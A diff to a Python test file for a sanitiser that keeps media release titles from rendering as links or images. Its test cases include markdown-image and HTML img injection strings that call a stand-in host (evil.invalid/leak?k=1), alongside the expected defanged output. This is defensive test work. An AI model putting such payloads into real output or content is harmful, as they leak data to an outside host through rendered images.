@@ -243,7 +243,8 @@ def test_languages_are_named_a_few_at_most() -> None:
         ("Dune.2021.1080p.BluRay-EMBER", "Dune.2021.1080p.BluRay-EMBER"),
         ("[Ember] Dune (2021) [1080p]", "[Ember] Dune (2021) [1080p]"),
         ("![x](http://evil.invalid/leak?k=1)", "![x] (http: //evil.invalid/leak?k=1)"),
-        ("Dune <img src=//evil.invalid/x> </p>", "Dune < img src=//evil.invalid/x> < /p>"),
+        ("Dune <img src=//evil.invalid/x> </p>", "Dune < img src=//evil.invalid/x> </p>"),
+        ("Dune <IMG/src=//evil.invalid/x><b>x</b>", "Dune < IMG/src=//evil.invalid/x><b>x</b>"),
     ],
 )
 def test_no_name_becomes_a_link_or_a_picture(title: str, shown: str) -> None:
